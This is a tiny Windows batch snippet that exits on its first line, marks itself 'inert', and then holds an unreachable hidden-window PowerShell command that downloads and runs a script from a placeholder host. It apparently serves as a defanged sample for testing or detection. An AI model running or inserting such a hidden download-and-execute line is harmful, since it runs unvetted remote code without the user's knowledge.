exit /b
rem inert
powershell.exe -WindowStyle Hidden -Command "irm https://example.com/a | iex"
